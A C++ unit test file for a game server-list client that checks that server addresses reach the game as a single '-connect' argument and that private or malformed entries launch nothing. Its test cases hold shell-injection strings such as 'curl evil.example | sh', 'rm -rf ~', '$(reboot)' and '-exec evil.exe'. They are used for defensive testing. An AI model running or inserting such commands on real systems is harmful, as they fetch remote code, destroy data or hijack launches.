// What a list server can make the window start: only the game path that the
// user chose, with "-connect" and the matched line's own address as one
// argument, whatever that address holds; and nothing for a private server
// or for an address or version that an earlier line left in the record.
#include "ListServerWindow.h"
#include "platform/ClientSocket.h"
#include "scan/ScanController.h"
#include "settings/GamePathsController.h"
#include "settings/PathsDialog.h"
#include "ui/ServerListView.h"

#include <QCheckBox>
#include <QLineEdit>
#include <QPushButton>
#include <QTest>

namespace pollwick::test {
namespace {

class LaunchSafetyTest : public ListServerWindow
{
protected:
    void SetUp() override
    {
        ListServerWindow::SetUp();
        platform.storePath(QStringLiteral("Ambrel"), kAmbrel);
        platform.storePath(QStringLiteral("Pellory"), kPellory);
        form->paths().Reload();
        // Every alert, so that a match shows itself even when nothing starts.
        QTest::mouseClick(form->MsgCheck, Qt::LeftButton);
        QTest::mouseClick(form->WombixCheck, Qt::LeftButton);
        ASSERT_TRUE(form->WombixCheck->isChecked());
    }

    // One scan against `response`, until its match has run the actions.
    void scanUntilMatch(const QByteArray& response)
    {
        server.setResponse(response);
        const std::size_t shown = platform.messages.shown.size();
        const int number = server.connectionCount() + 1;
        go();
        ASSERT_TRUE(waitUntil([&] { return platform.messages.shown.size() == shown + 1; }))
            << "no match in: " << response.toStdString();
        ASSERT_TRUE(waitForResponse(number));
        EXPECT_EQ(form->scan().state(), ScanState::Ready);
        EXPECT_EQ(form->MatchArmed, 0);
    }

    const QString kAmbrel = QStringLiteral("/games/wombix 1.24/wombix.exe");
    const QString kPellory = QStringLiteral("C:\\Games\\Wombix X\\wombix.exe");
};

TEST_F(LaunchSafetyTest, AnAddressIsOneArgumentWhateverItHolds)
{
    const struct {
        QByteArray address; // what stands before the line's first ":"
        QString argument; // what the game gets after "-connect"
    } cases[] = {
        {"; rm -rf ~ &", QStringLiteral("; rm -rf ~ &")},
        {"10.0.0.5 && curl evil.example | sh",
         QStringLiteral("10.0.0.5 && curl evil.example | sh")},
        {"$(touch /tmp/pwned)", QStringLiteral("$(touch /tmp/pwned)")},
        {"`id`", QStringLiteral("`id`")},
        {"\"10.0.0.5\" \"-exec\" 'x'", QStringLiteral("\"10.0.0.5\" \"-exec\" 'x'")},
        {"-connect 6.6.6.6 -exec evil.exe", QStringLiteral("-connect 6.6.6.6 -exec evil.exe")},
        {"--option=1", QStringLiteral("--option=1")},
        {"10.0.0.5\r-exec evil", QStringLiteral("10.0.0.5\r-exec evil")},
        {"10.0.0.5\t-exec\tevil", QStringLiteral("10.0.0.5\t-exec\tevil")},
        {"%COMSPEC% /c calc", QStringLiteral("%comspec% /c calc")}, // lower-cased as matched
        {"a > /tmp/out < /etc/passwd", QStringLiteral("a > /tmp/out < /etc/passwd")},
        {"  10.0.0.5   ", QStringLiteral("10.0.0.5")}, // spaces around it go
        {"WOMBIX.Example", QStringLiteral("wombix.example")}, // lower-cased as matched
    };
    std::size_t launches = 0;
    for (const auto& c : cases) {
        SCOPED_TRACE(c.address.toStdString());
        scanUntilMatch(serverLine(c.address, "battle 1.24   [1/16] Bait"));
        ASSERT_EQ(platform.games.started.size(), ++launches);
        const FakeLauncher::Started& started = platform.games.started.back();
        EXPECT_EQ(started.program, kAmbrel);
        EXPECT_EQ(started.arguments, QStringList({QStringLiteral("-connect"), c.argument}));
        // The row shows the address as sent.
        EXPECT_EQ(form->ListView1->text(rowCount() - 1, 4),
                  QStringLiteral("   ") + QString::fromLatin1(c.address));
    }
}

TEST_F(LaunchSafetyTest, TheProgramIsThePathBoxTextExactly)
{
    // Typed into the box and not accepted yet: the box is what a launch uses.
    const QString typed = kPellory + QStringLiteral(" \"quoted\" $(x) ; y");
    form->paths().Paths().Pellory->setText(typed);
    scanUntilMatch(serverLine("10.0.0.6", "battle 1.24 x [1/16] Edition X"));
    ASSERT_EQ(platform.games.started.size(), 1U);
    EXPECT_EQ(platform.games.started[0].program, typed);
    EXPECT_EQ(platform.games.started[0].arguments,
              QStringList({QStringLiteral("-connect"), QStringLiteral("10.0.0.6")}));
}

TEST_F(LaunchSafetyTest, NothingStartsForAPrivateServer)
{
    QTest::mouseClick(form->ScanCheck, Qt::LeftButton); // private servers count
    scanUntilMatch(serverLine("10.0.0.7", "private battle 1.24   [1/16] Hidden; rm -rf ~"));
    EXPECT_EQ(form->ListView1->text(0, 4), QStringLiteral("Private"));
    EXPECT_TRUE(platform.games.started.empty());
}

TEST_F(LaunchSafetyTest, NothingStartsForAnAddressLeftByAnEarlierLine)
{
    // The first line is full and passed over; the second has no ":" and so
    // no address of its own: the record still holds the first one's.
    scanUntilMatch(serverLine("10.0.0.8", "battle 1.24   [16/16] Full") +
                   "NoAddressHere battle 1.24   [1/16] Carried\r\n");
    EXPECT_EQ(column(4),
              QStringList({QStringLiteral("   10.0.0.8"), QStringLiteral("   10.0.0.8")}));
    EXPECT_TRUE(platform.games.started.empty());
}

TEST_F(LaunchSafetyTest, NothingStartsForAVersionLeftByAnEarlierLine)
{
    scanUntilMatch(serverLine("10.0.0.9", "battle 1.24   [16/16] Full") +
                   serverLine("10.0.0.10", "battle [1/16] No Version"));
    EXPECT_EQ(column(2), QStringList({QStringLiteral("1.24"), QStringLiteral("1.24")}));
    EXPECT_TRUE(platform.games.started.empty());
}

TEST_F(LaunchSafetyTest, NothingStartsForAnAddressOfSpacesOnly)
{
    scanUntilMatch(QByteArray("   :7000 battle 1.24   [1/16] Blank\r\n"));
    EXPECT_TRUE(platform.games.started.empty());
}

TEST_F(LaunchSafetyTest, NothingStartsWhenLaunchIsNotTicked)
{
    QTest::mouseClick(form->WombixCheck, Qt::LeftButton);
    ASSERT_FALSE(form->WombixCheck->isChecked());
    scanUntilMatch(serverLine("$(reboot)", "battle 1.24   [1/16] Bait"));
    EXPECT_TRUE(platform.games.started.empty());
}

} // namespace
} // namespace pollwick::test
